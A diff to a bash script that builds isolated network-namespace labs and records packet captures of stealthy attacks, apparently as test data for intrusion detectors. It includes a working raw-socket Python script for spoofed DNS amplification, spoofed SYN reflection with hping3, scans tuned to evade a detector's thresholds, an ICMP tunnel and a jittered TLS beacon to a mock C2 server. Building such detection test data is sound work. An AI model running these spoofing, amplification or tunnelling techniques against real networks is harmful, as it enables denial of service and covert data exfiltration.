@@ -39,6 +39,9 @@ mkdir -p "$LOG"
 PIDS=()          # background services started here (killed by PID at exit)
 CAP_PID=''
 MADE_RUN_SSHD=0
+S_NS=(tws-br tws-att tws-ref tws-vic)
+S_UP=0 S_READY=0 # the tws-* lab (stealth captures) was set up by this run
+LAB_UP=0         # the twp-* lab was set up by this run (only then is it removed at exit)
 
 log() { printf '[%(%H:%M:%S)T] %s\n' -1 "$*" >&2; }
 na() { ip netns exec "$ATT" "$@"; }
@@ -50,8 +53,8 @@ cleanup() {
   local p
   for p in "${PIDS[@]}"; do kill -TERM "$p" 2>/dev/null; done
   for p in "${PIDS[@]}"; do wait "$p" 2>/dev/null; done
-  ip netns del "$ATT" 2>/dev/null
-  ip netns del "$VIC" 2>/dev/null
+  if ((LAB_UP)); then ip netns del "$ATT" 2>/dev/null; ip netns del "$VIC" 2>/dev/null; fi
+  ((S_UP)) && stealth_down
   if [[ $MADE_RUN_SSHD == 1 ]]; then rmdir /run/sshd 2>/dev/null; fi
   rm -f /tmp/twp-notes.txt       # the file benign-ssh copies with scp
   if [[ ${KEEP_WORK:-0} == 1 ]]; then echo "work dir kept: $WORK" >&2; else rm -rf "$WORK"; fi
@@ -64,7 +67,8 @@ ensure_tools() {
   local -A pkg=([tcpdump]=tcpdump [nmap]=nmap [dig]=dnsutils [dnsmasq]=dnsmasq-base
     [hping3]=hping3 [sshd]=openssh-server [ssh]=openssh-client [hydra]=hydra [curl]=curl
     [sshpass]=sshpass [ethtool]=ethtool [/usr/bin/python3]=python3 [ip]=iproute2
-    [timeout]=coreutils [ssh-keygen]=openssh-client)
+    [timeout]=coreutils [ssh-keygen]=openssh-client [openssl]=openssl [ptunnel-ng]=ptunnel-ng [ping]=iputils-ping
+    [bridge]=iproute2)
   local missing=() t
   for t in "${!pkg[@]}"; do
     command -v "$t" >/dev/null 2>&1 || [[ -x /usr/sbin/$t ]] || missing+=("${pkg[$t]}")
@@ -92,9 +96,12 @@ write_versions() {
     echo "curl: $(curl --version | head -1)"
     echo "python3: $(/usr/bin/python3 --version 2>&1)"
     echo "iproute2: $(ip -V)"
+    echo "openssl: $(openssl version)"
+    echo "ptunnel-ng: $(ptunnel-ng --help 2>&1 | head -1)"
+    echo "ping: $(ping -V 2>&1 | head -1)"
     echo "# Debian packages:"
     dpkg-query -W tcpdump libpcap0.8 nmap hping3 hydra libssh-4 bind9-dnsutils dnsmasq-base \
-      openssh-server openssh-client sshpass curl python3 iproute2 ethtool 2>/dev/null | sed 's/^/  /'
+      openssh-server openssh-client sshpass curl python3 iproute2 ethtool openssl ptunnel-ng iputils-ping 2>/dev/null | sed 's/^/  /'
 
   } >"$OUT/tool-versions.txt"
 }
@@ -682,11 +689,234 @@ cap_benign-busy() {
   cap_stop
 }
 
+# ---------------------------------------------------------------- stealth (issue 9)
+# Their own lab, so they never touch twp-*: four namespaces on one bridge (a 5th
+# namespace holds the bridge), subnet 10.77.9.0/24:
+#   tws-att  10.77.9.1 (attacker / external host), .11-.15 (split-scan sources)
+#   tws-ref  10.77.9.21-.24: "reflectors" (dnsmasq with large TXT records, http on :80)
+#   tws-vic  10.77.9.2 (scanned server, http :80), 10.77.9.66 (home workstation:
+#            the spoofed victim of the reflections, the ICMP-tunnel and TLS-beacon client)
+# Captures are taken on tws-v inside tws-vic: the victim's own wire.
+S_A=10.77.9.1 S_SRV=10.77.9.2 S_WS=10.77.9.66
+S_SPLIT=(10.77.9.11 10.77.9.12 10.77.9.13 10.77.9.14 10.77.9.15)
+S_REF=(10.77.9.21 10.77.9.22 10.77.9.23 10.77.9.24)
+sa() { ip netns exec tws-att "$@"; }
+sr() { ip netns exec tws-ref "$@"; }
+sv() { ip netns exec tws-vic "$@"; }
+
+stealth_down() { local ns; for ns in "${S_NS[@]}"; do ip netns del "$ns" 2>/dev/null || true; done; }
+
+stealth_up() {
+  ((S_READY)) && return 0
+  S_UP=1
+  stealth_down
+  local ns
+  for ns in "${S_NS[@]}"; do
+    ip netns add "$ns"
+    ip netns exec "$ns" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
+    ip -n "$ns" link set lo up
+  done
+  ip -n tws-br link add br0 type bridge
+  ip -n tws-br link set br0 up
+  local i=1
+  for ns in tws-att tws-ref tws-vic; do
+    local dev=tws-${ns#tws-}; dev=${dev:0:5}
+    ip link add "$dev" netns "$ns" type veth peer name "p$i" netns tws-br
+    ip -n "$ns" link set "$dev" address 02:77:09:00:00:0$i
+    ip netns exec "$ns" ethtool -K "$dev" tx off rx off tso off gso off gro off >/dev/null 2>&1 || true
+    ip netns exec tws-br ethtool -K "p$i" tx off rx off tso off gso off gro off >/dev/null 2>&1 || true
+    ip -n tws-br link set "p$i" master br0
+    ip -n tws-br link set "p$i" up
+    ip -n "$ns" link set "$dev" up
+    i=$((i + 1))
+  done
+  ip -n tws-att addr add $S_A/24 dev tws-a
+  for i in "${S_SPLIT[@]}"; do ip -n tws-att addr add "$i"/24 dev tws-a; done
+  for i in "${S_REF[@]}"; do ip -n tws-ref addr add "$i"/24 dev tws-r; done
+  # the workstation's address first: it is the primary one, so what tws-vic starts (the
+  # tunnel, the beacon) comes from 10.77.9.66; 10.77.9.2 is the scanned server
+  ip -n tws-vic addr add $S_WS/24 dev tws-v
+  ip -n tws-vic addr add $S_SRV/24 dev tws-v
+  # spoofed packets must leave the attacker and be answered by the reflectors
+  for ns in tws-att tws-ref tws-vic; do
+    ip netns exec "$ns" sysctl -qw net.ipv4.conf.all.rp_filter=0 net.ipv4.conf.default.rp_filter=0
+  done
+  local PY=/usr/bin/python3
+  mkdir -p "$WORK/wwws"; gen_site "$WORK/wwws" "stealth lab server"
+  head -c 300000 /dev/urandom >"$WORK/wwws/blob.bin"
+  bg s-http "tws-vic" $PY "$WORK/srv.py" $S_SRV 80 "$WORK/wwws"
+  bg s-httpref "tws-ref" $PY "$WORK/srv.py" 0.0.0.0 80 "$WORK/wwws"
+  bg s-httpext "tws-att" $PY "$WORK/srv.py" $S_A 8080 "$WORK/wwws"
+  # dnsmasq on the reflectors: one name with ~3 KB of TXT strings (an "ANY/TXT amplifier")
+  local txt=() k
+  for k in $(seq 1 12); do txt+=("$(head -c 180 /dev/urandom | base64 -w0 | head -c 240)"); done
+  local IFS_OLD=$IFS; IFS=,
+  bg s-dnsmasq "tws-ref" dnsmasq -k --conf-file=/dev/null --no-resolv --no-hosts --no-poll \
+    --bind-interfaces --listen-address=${S_REF[0]} --port=53 --user=root --pid-file= \
+    --edns-packet-max=4096 --local=/#/ --txt-record=big.amp.test,"${txt[*]}"
+  IFS=$IFS_OLD
+  # TLS "C2" on the external host
+  openssl req -x509 -newkey rsa:2048 -nodes -subj /CN=c2.example -days 2 \
+    -keyout "$WORK/c2.key" -out "$WORK/c2.crt" >/dev/null 2>&1
+  bg s-tls "tws-att" openssl s_server -quiet -accept $S_A:8443 -cert "$WORK/c2.crt" -key "$WORK/c2.key" -www
+  wait_port tws-vic $S_SRV 80
+  wait_port tws-ref ${S_REF[0]} 80
+  wait_port tws-att $S_A 8080
+  wait_port tws-att $S_A 8443
+  wait_port tws-ref ${S_REF[0]} 53
+  S_READY=1
+}
+
+scap_start() { # scap_start NAME SNAPLEN : like cap_start, on tws-v in tws-vic
+  stealth_up
+  CAP_NAME=$1
+  CAP_FILE=$WORK/$1.pcap
+  log "capture $1 (snaplen $2)"
+  # `ip netns exec` itself (not the sv function, which would fork a subshell): $! is tcpdump
+  ip netns exec tws-vic tcpdump -i tws-v -s "$2" -U -n -Z root -w "$CAP_FILE" >"$LOG/tcpdump-$1.log" 2>&1 &
+  CAP_PID=$!
+  local i
+  for i in $(seq 1 100); do grep -qs 'listening on' "$LOG/tcpdump-$1.log" && break; sleep 0.05; done
+  grep -qs 'listening on' "$LOG/tcpdump-$1.log" || { echo "tcpdump did not start" >&2; exit 1; }
+  sleep 0.5
+}
+
+cap_nmap-t1-scan() {
+  # nmap -T1 ("sneaky"): one probe every 15 s; 12 ports of 10.77.9.2 (80 open) ~ 3 min
+  scap_start nmap-t1-scan 200
+  sa timeout 300 nmap -n -Pn -sS -T1 -p 21,22,23,25,53,80,110,143,443,445,3389,8080 $S_SRV \
+    >"$LOG/nmap-t1.out" 2>&1 || true
+  cap_stop
+}
+
+cap_distributed-scan() {
+  # one scan of 60 ports of 10.77.9.2 split over 5 source addresses (12 ports each,
+  # disjoint), run at once; 3.2 s between probes keeps each source under port_scan's
+  # triggers (12 < 15 fast, < 25 slow, scanlogd weight reset after 3 s)
+  local ports=(21 22 23 25 53 79 80 88 110 111 135 139 143 389 443 445 465 514 587 631
+    636 873 993 995 1025 1080 1433 1521 1723 2049 2121 2375 3000 3128 3306 3389 4444 5000 5060 5432
+    5900 5984 6000 6379 6667 7001 8000 8008 8080 8081 8443 8888 9000 9090 9200 9418 10000 11211 27017 50000)
+  local i j list pids=()
+  scap_start distributed-scan 200
+  for ((i = 0; i < 5; i++)); do
+    list=''
+    for ((j = i; j < 60; j += 5)); do list+=${list:+,}${ports[j]}; done
+    sa timeout 120 nmap -n -Pn -sS -e tws-a -S "${S_SPLIT[i]}" --scan-delay 3200ms --max-retries 0 -p "$list" $S_SRV \
+      >"$LOG/nmap-split-$i.out" 2>&1 &
+    pids+=("$!")
+  done
+  for i in "${pids[@]}"; do wait "$i" || true; done
+  cap_stop
+}
+
+cap_synack-reflection() {
+  # TCP reflection: the attacker (10.77.9.1) sends SYNs with the workstation's address
+  # 10.77.9.66 as source to four reflectors' ports 80 (open: SYN-ACK) and 81 (closed:
+  # RST); the workstation receives SYN-ACKs and RSTs it never asked for (and answers
+  # each SYN-ACK with a RST). 4 x 400 SYNs, 2 ms apart, random source ports.
+  local r pids=()
+  scap_start synack-reflection 96
+  for r in "${S_REF[@]}"; do
+    sa timeout 30 hping3 -I tws-a -S -a $S_WS -p 80 -c 300 -i u2000 "$r" >>"$LOG/hping-refl.out" 2>&1 &
+    pids+=("$!")
+    sa timeout 30 hping3 -I tws-a -S -a $S_WS -p 81 -c 100 -i u8000 "$r" >>"$LOG/hping-refl.out" 2>&1 &
+    pids+=("$!")
+  done
+  for r in "${pids[@]}"; do wait "$r" || true; done
+  cap_stop
+}
+
+cap_dns-amplification() {
+  # DNS amplification: 120 spoofed queries (source 10.77.9.66, EDNS bufsize 4096,
+  # "big.amp.test TXT", ~50 bytes) from the attacker to dnsmasq on 10.77.9.21; the
+  # ~3 KB answers (IP-fragmented) land on the workstation, which never asked.
+  cat >"$WORK/spoof_dns.py" <<'EOF'
+import random, socket, struct, sys, time
+src, dst, qname, count, gap = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), float(sys.argv[5])
+def csum(b):
+    if len(b) % 2: b += b"\0"
+    s = sum(struct.unpack("!%dH" % (len(b) // 2), b)); s = (s >> 16) + (s & 0xffff); s += s >> 16
+    return ~s & 0xffff
+s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+rnd = random.Random(int(sys.argv[6]))
+q = b"".join(bytes([len(l)]) + l.encode() for l in qname.split(".")) + b"\0" + struct.pack("!HH", 16, 1)
+opt = b"\0" + struct.pack("!HHIH", 41, 4096, 0, 0)            # EDNS0, 4096-byte UDP payload
+for i in range(count):
+    dns = struct.pack("!HHHHHH", rnd.randrange(1 << 16), 0x0100, 1, 0, 0, 1) + q + opt
+    sport = rnd.randrange(1024, 65535)
+    ps = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 17, 8 + len(dns))
+    udp = struct.pack("!HHHH", sport, 53, 8 + len(dns), 0) + dns
+    udp = udp[:6] + struct.pack("!H", csum(ps + udp)) + udp[8:]
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), rnd.randrange(1 << 16), 0, 64, 17, 0,
+                     socket.inet_aton(src), socket.inet_aton(dst))
+    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
+    s.sendto(ip + udp, (dst, 0))
+    time.sleep(gap)
+EOF
+  scap_start dns-amplification 0
+  sa timeout 30 /usr/bin/python3 "$WORK/spoof_dns.py" $S_WS ${S_REF[0]} big.amp.test 120 0.05 $SEED \
+    >"$LOG/spoof-dns.out" 2>&1 || true
+  cap_stop
+}
+
+cap_icmp-tunnel() {
+  # ptunnel-ng: the workstation 10.77.9.66 tunnels a TCP connection inside ICMP echo
+  # requests/replies to a ptunnel-ng proxy on the external host 10.77.9.1, which
+  # forwards it to 10.77.9.1:8080; curl fetches 300 KB of random bytes through it, then
+  # two small pages. The proxy host ignores echo itself (the proxy answers).
+  stealth_up
+  sa sysctl -qw net.ipv4.icmp_echo_ignore_all=1
+  bg s-ptunnel-proxy tws-att timeout 90 ptunnel-ng -r$S_A -R8080 -v 1 -o"$LOG/ptunnel-proxy.txt"
+  sleep 1
+  bg s-ptunnel-client tws-vic timeout 80 ptunnel-ng -p$S_A -l 2222 -r$S_A -R8080 -v 1 -o"$LOG/ptunnel-client.txt"
+  wait_port tws-vic 127.0.0.1 2222
+  scap_start icmp-tunnel 0
+  {
+    sv timeout 40 curl -sS -o /dev/null -w '%{http_code} %{size_download} %{time_total}\n' http://127.0.0.1:2222/blob.bin
+    sleep 2
+    sv timeout 20 curl -sS -o /dev/null -w '%{http_code} %{size_download}\n' http://127.0.0.1:2222/index.html
+    sleep 2
+    sv timeout 20 curl -sS -o /dev/null -w '%{http_code} %{size_download}\n' http://127.0.0.1:2222/about.html
+  } >"$LOG/icmp-tunnel.out" 2>&1
+  cap_stop
+  sa sysctl -qw net.ipv4.icmp_echo_ignore_all=0
+}
+
+cap_tls-beacon-jitter() {
+  # the workstation checks in with a TLS "C2" (openssl s_server on 10.77.9.1:8443) 30
+  # times, a new TLS connection each time, sleeping 4 s +-50 % (uniform 2.0-6.0 s)
+  local i ms; RANDOM=$SEED
+  scap_start tls-beacon-jitter 256
+  for ((i = 1; i <= 30; i++)); do
+    printf 'GET /check?seq=%d HTTP/1.0\r\n\r\n' "$i" |
+      sv timeout 5 openssl s_client -quiet -connect $S_A:8443 -servername c2.example >>"$LOG/tls-beacon.out" 2>&1 || true
+    ms=$((2000 + RANDOM % 4001))
+    sleep "$(printf '%d.%03d' $((ms / 1000)) $((ms % 1000)))"
+  done
+  cap_stop
+}
+
+cap_benign-ping() {
+  # what icmp_tunnel must not call a tunnel: iputils ping from the workstation to the
+  # external host with large payloads (40 x 1200 bytes, 0.2 s apart: 94 KB both ways in
+  # 8 s), a pattern ping (-p, 30 x 512 bytes) and a default ping (10 x 56 bytes)
+  scap_start benign-ping 0
+  {
+    sv timeout 20 ping -n -c 40 -i 0.2 -s 1200 $S_A
+    sv timeout 20 ping -n -c 30 -i 0.2 -s 512 -p 5a17c0de $S_A
+    sv timeout 20 ping -n -c 10 -i 0.2 $S_A
+  } >"$LOG/benign-ping.out" 2>&1
+  cap_stop
+}
+
 ALL=(dns-basic http-basic http-snaplen-keepalive ssh-login
   nmap-syn-scan nmap-connect-scan nmap-udp-scan nmap-ping-sweep nmap-slow-scan
   hping3-syn-flood hping3-icmp-flood ssh-bruteforce-fail ssh-bruteforce-success
   dns-tunnel dns-nxdomain-burst http-path-scan large-upload beacon
-  benign-browsing benign-dns benign-ssh benign-busy)
+  benign-browsing benign-dns benign-ssh benign-busy
+  nmap-t1-scan distributed-scan synack-reflection dns-amplification icmp-tunnel tls-beacon-jitter benign-ping)
+# the captures of the stealth lab (their own namespaces, tws-*): the twp-* lab is not needed for them
+STEALTH=(nmap-t1-scan distributed-scan synack-reflection dns-amplification icmp-tunnel tls-beacon-jitter benign-ping)
 
 main() {
   local todo=("$@") c
@@ -695,10 +925,19 @@ main() {
     declare -F "cap_$c" >/dev/null || { echo "unknown capture: $c (known: ${ALL[*]})" >&2; exit 2; }
   done
   ensure_tools
-  ensure_user
   write_helpers
-  setup_net
-  start_services
+  local lab=0 st
+  for c in "${todo[@]}"; do
+    lab=1
+    for st in "${STEALTH[@]}"; do [[ $c == "$st" ]] && lab=0; done
+    ((lab)) && break
+  done
+  if ((lab)); then
+    LAB_UP=1
+    ensure_user
+    setup_net
+    start_services
+  fi
   write_versions
   for c in "${todo[@]}"; do "cap_$c"; done
   log "done; logs in $LOG (set KEEP_WORK=1 to keep them)"
